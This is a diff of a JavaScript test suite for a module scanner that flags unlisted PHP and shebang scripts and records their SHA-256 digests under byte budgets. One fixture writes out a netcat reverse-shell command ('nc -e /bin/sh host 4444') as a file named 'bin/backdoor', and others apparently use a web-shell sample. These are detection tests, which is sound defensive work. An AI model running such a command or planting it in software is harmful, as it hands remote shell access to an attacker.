@@ -117,7 +117,7 @@ describe('walkModule', () => {
       result = walk('core', m, { listed: LISTED });
     });
 
-    it('reports the unlisted code, sorted by path, each with its reason and its content digest', () => {
+    it('reports the unlisted code, sorted by path, each with its reason and SHA-256', () => {
       assert.deepEqual(result.code, [
         { path: 'assets/less/cache/x.php', reason: REASON.php, sha256: sha256(SHELL) },
         { path: 'bin/backdoor', reason: REASON.shebang, sha256: sha256('#!/bin/sh\nnc -e /bin/sh host 4444\n') },
@@ -409,39 +409,22 @@ describe('walkModule', () => {
       assert.equal(result.notWalked[0]?.reason, 'more than 1 links to directories: not followed');
     });
 
-    it('gives code files their digests up to 1 MiB each and the module bound in all, and still fails them', async () => {
-      const big = Buffer.alloc(1024 * 1024 + 1, 0x61);
-      await put('digests/m/a.php', SHELL);
-      await put('digests/m/b-big.php', big);
-      await put('digests/m/c.php', '<?php echo 1;');
-      await put('digests/m/d.php', '<?php echo 2;');
-      const unbounded = walk('m', 'digests/m');
-      assert.deepEqual(
-        unbounded.code.map((f) => [f.path, f.sha256]),
-        [
-          ['a.php', sha256(SHELL)],
-          ['b-big.php', undefined],
-          ['c.php', sha256('<?php echo 1;')],
-          ['d.php', sha256('<?php echo 2;')],
-        ],
-      );
-      // A budget that the first two small files use up: the third small file has no digest.
-      const budget = Buffer.byteLength(SHELL) + Buffer.byteLength('<?php echo 1;');
-      const bounded = walk('m', 'digests/m', { limits: { codeDigestBytes: budget } });
-      assert.deepEqual(
-        bounded.code.map((f) => [f.path, f.sha256 !== undefined]),
-        [
-          ['a.php', true],
-          ['b-big.php', false],
-          ['c.php', true],
-          ['d.php', false],
-        ],
-      );
-    });
-
     it('keeps at most the bound of findings in a list', async () => {
       for (let i = 0; i < 3; i++) await put(`capped/m/s${i}.php`, SHELL);
       assert.equal(walk('m', 'capped/m', { limits: { listed: 2 } }).code.length, 2);
+    });
+
+    it('gives unlisted code its SHA-256 only within its byte budget, and never for a file over 1 MiB', async () => {
+      await put('hashed/m/a.php', SHELL);
+      await put('hashed/m/big.php', Buffer.alloc(1024 * 1024 + 1, 0x20));
+      assert.deepEqual(walk('m', 'hashed/m', { limits: { codeHashBytes: 0 } }).code, [
+        { path: 'a.php', reason: REASON.php },
+        { path: 'big.php', reason: REASON.php },
+      ]);
+      assert.deepEqual(walk('m', 'hashed/m').code, [
+        { path: 'a.php', reason: REASON.php, sha256: sha256(SHELL) },
+        { path: 'big.php', reason: REASON.php },
+      ]);
     });
 
     it('fails on a directory whose path is longer than PATH_MAX', async () => {
